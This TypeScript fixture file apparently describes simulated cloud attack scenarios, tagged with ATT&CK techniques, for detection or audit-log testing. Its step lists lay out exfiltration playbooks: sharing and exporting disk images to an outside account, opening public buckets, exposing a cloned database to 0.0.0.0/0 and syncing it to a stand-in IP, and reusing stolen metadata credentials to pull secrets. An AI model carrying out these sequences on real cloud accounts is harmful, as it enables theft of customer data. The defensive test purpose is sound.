import { bucket, change, look, role, user } from './story';
import type { Story } from './story';

const STRANGER = '5500000000000005';

/** What is carried away. */
export const copies: readonly Story[] = [
  {
    id: 'disks-shared-out',
    title: 'Copies of disks go to another account, as images and snapshots',
    after: 'Exfiltration by shared images and snapshots (Stratus Red Team)',
    techniques: ['T1578.001', 'T1537'],
    by: user('zhou.jie', 'LTAI5tExampleZhouJie'),
    from: 'office',
    hours: 'working',
    steps: [
      look('Ecs', 'DescribeDisks'),
      change('Ecs', 'CreateSnapshot', { DiskId: 'd-t4ndb', SnapshotName: 'tmp' }),
      change('Ecs', 'CreateImage', { SnapshotId: 's-t4ndb', ImageName: 'tmp' }),
      change('Ecs', 'ModifyImageSharePermission', { ImageId: 'm-t4ndb', 'AddAccount.1': STRANGER }),
      change('Ecs', 'CopyImage', { ImageId: 'm-t4ndb', DestinationRegionId: 'us-east-1' }),
      change('Ecs', 'CopySnapshot', { SnapshotId: 's-t4ndb', DestinationRegionId: 'us-east-1' }),
      change('Ecs', 'ExportImage', { ImageId: 'm-t4ndb', OSSBucket: 'drop-box', OSSPrefix: 'x' }),
      change('Ecs', 'ExportSnapshot', { SnapshotId: 's-t4ndb', OssBucket: 'drop-box' }),
    ],
  },
  {
    id: 'buckets-opened',
    title: 'The block on public buckets is lifted, and one after the other is opened',
    after: 'Public bucket leaks; Stratus Red Team, bucket back door',
    techniques: ['T1530', 'T1537', 'T1567.002'],
    by: user('web-publisher', 'LTAI5tExamplePublisher'),
    from: 'elsewhere',
    hours: 'night',
    steps: [
      look('Oss', 'ListBuckets'),
      look('Oss', 'GetBucketAcl', {}, { resource: bucket('customer-files') }),
      change('Oss', 'DeletePublicAccessBlock'),
      change('Oss', 'DeleteBucketPublicAccessBlock', {}, { resource: bucket('customer-files') }),
      change('Oss', 'PutBucketAcl', {}, { resource: bucket('customer-files') }),
      change('Oss', 'PutBucketPolicy', {}, { resource: bucket('invoices') }),
      change('Oss', 'PutBucketCors', {}, { resource: bucket('invoices') }),
      change('Oss', 'CreateAccessPoint', {}, { resource: bucket('invoices') }),
      change('Oss', 'PutBucketReplication', {}, { resource: bucket('contracts') }),
    ],
  },
  {
    id: 'database-carried-off',
    title: 'An account in the database, a public address, a job that copies it out',
    after: 'Exfiltration by restored and exposed RDS copies (Stratus Red Team)',
    techniques: ['T1537', 'T1578.002', 'T1562.007'],
    by: user('huang.bo'),
    from: 'office',
    hours: 'working',
    steps: [
      look('Rds', 'DescribeDBInstances'),
      look('Rds', 'DescribeBackups', { DBInstanceId: 'rm-t4n1' }),
      change('Rds', 'CreateAccount', {
        DBInstanceId: 'rm-t4n1',
        AccountName: 'sync',
        AccountType: 'Super',
      }),
      change('Rds', 'GrantAccountPrivilege', {
        DBInstanceId: 'rm-t4n1',
        AccountName: 'sync',
        AccountPrivilege: 'ReadWrite',
        DBName: 'shop',
      }),
      change('Rds', 'CreateBackup', { DBInstanceId: 'rm-t4n1' }),
      change('Rds', 'CloneDBInstance', {
        DBInstanceId: 'rm-t4n1',
        BackupId: '321020562',
        DBInstanceClass: 'mysql.n2.medium.1',
      }),
      change('Rds', 'AllocateInstancePublicConnection', {
        DBInstanceId: 'rm-t4n2',
        ConnectionStringPrefix: 'shop-copy',
      }),
      change('Rds', 'ModifySecurityIps', { DBInstanceId: 'rm-t4n2', SecurityIps: '0.0.0.0/0' }),
      change('Dts', 'CreateDtsInstance', {
        Type: 'SYNC',
        SourceRegion: 'ap-southeast-1',
        DestinationRegion: 'us-east-1',
      }),
      change('Dts', 'ConfigureDtsJob', {
        DtsInstanceId: 'dtsi1',
        SourceEndpointInstanceID: 'rm-t4n1',
        DestinationEndpointInstanceType: 'other',
        DestinationEndpointIP: '192.0.2.77',
      }),
    ],
  },
  {
    id: 'credentials-of-a-machine',
    title: 'What the metadata of a machine gives out is used far away',
    after: 'Capital One (2019)',
    techniques: ['T1552.005', 'T1078.004', 'T1530'],
    by: role('web-server:i-t4n0shop'),
    from: 'elsewhere',
    hours: 'night',
    steps: [
      look('Sts', 'GetCallerIdentity'),
      look('Oss', 'ListBuckets'),
      look('Ecs', 'DescribeInstances'),
      ...Array.from({ length: 8 }, () => look('Ram', 'ListUsers', {}, { error: 'NoPermission' })),
      look('Kms', 'ListSecrets'),
      look('Kms', 'GetSecretValue', { SecretName: 'shop/db' }),
      change('Kms', 'SetSecretPolicy', { SecretName: 'shop/db', PolicyName: 'default' }),
      change('Kms', 'CreateApplicationAccessPoint', {
        Name: 'reader',
        AuthenticationMethod: 'ClientKey',
        Policies: '["shop"]',
      }),
      change('Kms', 'CreateClientKey', { AapName: 'reader' }),
      change('Oss', 'PutBucketPolicy', {}, { resource: bucket('customer-files') }),
    ],
  },
];
